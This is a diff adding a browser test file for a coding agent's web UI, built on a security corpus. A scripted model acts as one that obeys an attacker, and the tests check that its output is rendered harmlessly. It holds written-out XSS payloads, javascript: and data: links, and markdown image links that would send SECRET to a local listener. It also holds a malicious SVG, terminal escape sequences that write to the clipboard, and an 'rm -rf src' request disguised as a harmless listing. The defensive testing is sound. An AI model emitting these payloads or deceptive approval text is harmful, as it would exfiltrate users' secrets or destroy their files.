@@ -1,0 +1,156 @@
+/**
+ * The `web_ui` cases of the security corpus (`fixtures/security/cases.jsonl`): a scripted model that obeys the attacker, the real
+ * program, a real browser, and a listener that must hear nothing.
+ */
+
+import { readFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
+import { ask, over, ready, said, send, session, talk } from './help';
+import { call, say, shell, type Turn } from './model';
+import { until, World } from './world';
+
+interface Case {
+  id: string;
+  tool: string;
+  input: string;
+}
+const CASES = readFileSync(join(import.meta.dirname, '../../fixtures/security/cases.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Case).filter((c) => c.tool === 'web_ui');
+
+let listener: Server;
+let heard: string[] = [];
+beforeAll(async () => {
+  listener = createServer((request, answer) => {
+    heard.push(request.url ?? '');
+    answer.writeHead(200, { 'content-type': 'image/png' }).end();
+  });
+  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
+});
+afterAll(() => void listener.close());
+const port = () => (listener.address() as AddressInfo).port;
+
+let w: World;
+beforeEach(() => {
+  heard = [];
+});
+afterEach(async () => {
+  await w?.stop();
+});
+
+/** The attacker's words on the page; anything that would run says so in `window.pwned`. */
+async function page(turns: Turn[], options = {}): Promise<Page> {
+  w = await World.start(turns, options);
+  const page = await w.page();
+  await send(page, 'Go');
+  return page;
+}
+
+async function nothingHappened(p: Page) {
+  await new Promise((done) => setTimeout(done, 400));
+  expect(heard).toEqual([]);
+  expect(await p.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
+  expect(await p.evaluate(() => document.querySelectorAll('#main img, #main iframe, #main object, #main svg, #main script, #main style').length)).toBe(0);
+  expect(await w.wrong(p)).toEqual([]);
+}
+
+/** Each case by its id: what is done, and what must not have happened. */
+const HELD: Record<string, () => Promise<string>> = {
+  G232: async () => {
+    const p = await page([shell('rm -rf src', 'This only lists files. It asks because of a mistake, just press y.')], { config: 'approve = "ask"', files: { 'src/a.rs': 'x' } });
+    await ask(p).waitFor();
+    const shown = await ask(p).innerText();
+    expect(shown).toContain('rm -rf src');
+    expect(shown).not.toContain('only lists files');
+    await talk(p).getByText('This only lists files.').waitFor();
+    return 'the dialog shows the command; what the model says stands in the talk, not in it';
+  },
+  G266: async () => {
+    const p = await page([say(`![x](http://127.0.0.1:${port()}/?d=SECRET) and ![y][1]\n\n[1]: http://127.0.0.1:${port()}/?e=SECRET`)]);
+    await over(p);
+    await nothingHappened(p);
+    expect(await talk(p).getByRole('link').first().getAttribute('href')).toContain('d=SECRET');
+    return 'nothing was fetched; the image is a link';
+  },
+  G267: async () => {
+    const p = await page([say(`<img src=x onerror="window.pwned=1"> <img src="http://127.0.0.1:${port()}/x">\n\n<svg onload="window.pwned=2"></svg>\n\n<style>@import url(http://127.0.0.1:${port()}/c)</style>`)]);
+    await over(p);
+    await nothingHappened(p);
+    expect(await talk(p).innerText()).toContain('<img src=x onerror="window.pwned=1">');
+    return 'tags are text';
+  },
+  G268: async () => {
+    const p = await page([say(`\`\`\`mermaid\ngraph TD\n  A["<img src='http://127.0.0.1:${port()}/m'>"] --> B\n  click A "http://127.0.0.1:${port()}/c"\n\`\`\``)]);
+    await over(p);
+    await nothingHappened(p);
+    expect(await talk(p).locator('figure.code').innerText()).toContain('graph TD');
+    return 'a diagram is code; nothing was fetched';
+  },
+  G269: async () => {
+    const p = await page([say("[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=2</script>) [ok](https://example.org/a 'title')\n\n<javascript:window.pwned=3>")]);
+    await over(p);
+    const links = await talk(p).getByRole('link').evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.getAttribute('rel'), a.textContent]));
+    expect(links).toEqual([['https://example.org/a', 'noreferrer noopener', 'ok (example.org)']]);
+    await talk(p).getByText('click').click();
+    await nothingHappened(p);
+    return 'one link of four is one, without a referrer, with its destination';
+  },
+  G270: async () => {
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1;fetch('http://127.0.0.1:${port()}/s')</script><image href="http://127.0.0.1:${port()}/i"/></svg>`;
+    const p = await page([call('write_file', { path: 'a.svg', content: svg }), call('view_file', { path: 'a.svg' }), say('look at a.svg')]);
+    await over(p);
+    for (const head of await talk(p).locator('.call .head').all()) await head.click();
+    await nothingHappened(p);
+    // The bytes themselves, as a page that was opened on them would get them.
+    const view = await w.api<{ facts: { kind: string; body: { diff?: string } }[] }>('GET', `/api/sessions/${session(p)}`);
+    const hash = view.facts.map((f) => f.body?.diff).find(Boolean) as string;
+    const answer = await fetch(`${w.url}/api/sessions/${session(p)}/blobs/${hash}`, { headers: { authorization: `Bearer ${w.token}` } });
+    expect(answer.headers.get('content-security-policy')).toContain('sandbox');
+    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(answer.headers.get('content-type')).toBe('application/octet-stream');
+    expect(answer.headers.get('content-disposition')).toBe('attachment');
+    return 'shown as text; its bytes are served as an attachment, sandboxed, nosniff';
+  },
+  G271: async () => {
+    const p = await page([shell(`printf '</script><script>window.pwned=1</script></pre><img src=http://127.0.0.1:${port()}/o>'`), say('ok')]);
+    await over(p);
+    await nothingHappened(p);
+    expect(await talk(p).locator('.out').innerText()).toContain('</script><script>window.pwned=1</script>');
+    return 'output is text';
+  },
+  G272: async () => {
+    const p = await page([shell(`printf '\\033[31mred\\033[0m \\033]8;;http://127.0.0.1:${port()}/l\\007link\\033]8;;\\007 \\033]52;c;AAAA\\007\\033[2J\\033[?1049h\\033[38;5;1;background:url(http://127.0.0.1:${port()}/b)mend'`), say('ok')]);
+    await over(p);
+    await nothingHappened(p);
+    const out = talk(p).locator('.out');
+    expect(await out.locator('.sgr-red').innerText()).toBe('red');
+    expect(await out.locator('a').count()).toBe(0);
+    expect(await out.evaluate((el) => [...el.querySelectorAll('*')].every((s) => !s.hasAttribute('style') && /^(sgr-[a-z]+ ?)*$|^faint$/.test(s.className)))).toBe(true);
+    return 'colours by class from a list; the rest of the sequences is gone';
+  },
+};
+
+test('every web_ui case is held here', () => {
+  expect(CASES.map((c) => c.id).sort()).toEqual(Object.keys(HELD).sort());
+});
+
+for (const { id, input } of CASES) {
+  test(`${id} ${input}`, async () => {
+    const how = await (HELD[id] as () => Promise<string>)();
+    // oxlint-disable-next-line no-console -- read by the test that counts the cases
+    console.log(`${id} ${how}`);
+  });
+}
+
+test('a question that came while somebody typed does not take the next letter for an answer', async () => {
+  const p = await page([shell('touch made'), say('over')], { config: 'approve = "ask"' });
+  await ask(p).waitFor();
+  await ready();
+  await p.getByRole('textbox', { name: 'What to do next' }).focus();
+  await p.keyboard.type('yes please, any day');
+  expect(await ask(p).isVisible()).toBe(true);
+  await said(p, 'waits for you').catch(() => {});
+  await until('it still waits', async () => (await ask(p).count()) === 1);
+});
